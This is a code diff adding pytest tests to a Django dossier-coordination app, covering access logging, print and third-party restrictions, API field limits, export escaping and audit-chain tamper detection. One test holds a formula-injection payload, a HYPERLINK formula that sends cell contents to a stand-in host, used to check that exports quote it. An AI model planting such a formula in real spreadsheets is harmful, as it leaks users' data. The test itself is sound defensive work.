@@ -117,3 +117,105 @@ def test_a_supporting_agency_cannot_raise_a_dossier_to_lock_the_lead_out(scene, 
     assert "Chỉ cơ quan chủ trì" in response.content.decode()
     scene.dossier.refresh_from_db()
     assert scene.dossier.classification == Classification.MAT
+
+
+def test_a_persons_history_asks_the_purpose_and_is_logged(scene, client):
+    from phoihop.subjects.models import SubjectAccess
+
+    login(client, scene.world.officer_b)
+    url = reverse("subjects:history", args=[scene.subject.pk])
+    page = client.get(url).content.decode()
+    assert "Mục đích truy cập" in page and "073012345" not in page
+    assert not SubjectAccess.objects.exists()
+    client.post(url, {"purpose": "verification"})
+    page = client.get(url).content.decode()
+    assert "Thêm đối tượng" in page
+    assert SubjectAccess.objects.get().user == scene.world.officer_b
+
+
+def test_a_letters_print_restriction_restricts_the_dossiers_print(scene, client):
+    dossier_services.message_add(
+        actor=SYSTEM,
+        dossier=scene.dossier,
+        direction=MessageDirection.INCOMING,
+        number_symbol="7/CAVS",
+        sent_on=scene.dossier.opened_on,
+        sender=scene.world.f,
+        recipient=scene.world.a,
+        summary="Thư hạn chế in",
+        print_needs_approval=True,
+    )
+    login(client, scene.world.officer_a)
+    response = client.post(reverse("dossiers:print", args=[scene.dossier.pk]))
+    assert response.status_code == 403
+
+
+def test_the_third_party_rule_holds_whatever_the_direction_says(scene):
+    from phoihop.core.exceptions import ServiceError
+    from phoihop.dossiers import handling
+
+    handling.dossier_set_restrictions(actor=SYSTEM, dossier=scene.dossier, no_third_party=True)
+    scene.dossier.refresh_from_db()
+    try:
+        dossier_services.message_add(
+            actor=scene.world.officer_a,
+            dossier=scene.dossier,
+            direction=MessageDirection.INCOMING,
+            number_symbol="200/CAT-PV11",
+            sent_on=scene.dossier.opened_on,
+            sender=scene.world.a,
+            recipient=scene.c,
+            summary="Sao gửi hồ sơ",
+        )
+    except ServiceError as exc:
+        assert "recipient" in exc.message_dict
+    else:
+        raise AssertionError("a party's letter to a third party was accepted")
+
+
+def test_the_persons_api_list_has_the_web_lists_columns_only(scene, client):
+    login(client, scene.world.officer_b)
+    row = client.get(reverse("subject-list"), {"q": "vang seo"}).json()["results"][0]
+    assert row["full_name"] == "Vàng Seo Dính"
+    assert not {"birth_place", "aliases", "address", "documents", "han_viet"} & set(row)
+
+
+def test_exports_quote_text_that_would_become_a_formula(scene, client):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"Mở")'
+    dossier_services.dossier_update(actor=SYSTEM, dossier=scene.dossier, title=evil)
+    login(client, scene.world.officer_b)
+    body = b"".join(client.get(reverse("dossiers:export-csv")).streaming_content)
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert ["'" + evil] == [r[1] for r in rows if len(r) > 1 and evil in r[1]]
+    sheet = load_workbook(io.BytesIO(client.get(reverse("dossiers:export-xlsx")).content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value and evil in str(c.value)]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_the_chain_covers_named_users_parties_files_and_the_actor_id(scene):
+    from phoihop.audit.services import audit_verify
+    from tests.audit_helpers import guard_lifted
+
+    opened = AuditEvent.objects.get(action="dossier.open", scope_id=scene.dossier.pk)
+    assert opened.changes["supporting_agencies"] == [scene.world.b.pk]
+    added = AuditEvent.objects.get(action="message.add", object_id=str(scene.message.pk))
+    assert added.changes["attachments"][0]["sha256"] == scene.attachment.sha256
+    officer = UserFactory(
+        username="a.tm3",
+        agency=scene.world.a,
+        role=Role.OFFICER,
+        clearance=Classification.TUYET_MAT,
+    )
+    dossier_services.dossier_update(
+        actor=officer, dossier=scene.dossier, classification=Classification.TUYET_MAT
+    )
+    raised = AuditEvent.objects.filter(action="dossier.update").latest("seq")
+    assert raised.changes["named_users"] == [[], [officer.pk]]
+    with guard_lifted():
+        AuditEvent.objects.filter(pk=raised.pk).update(actor=scene.world.officer_a)
+    assert audit_verify().first_broken_seq == raised.seq
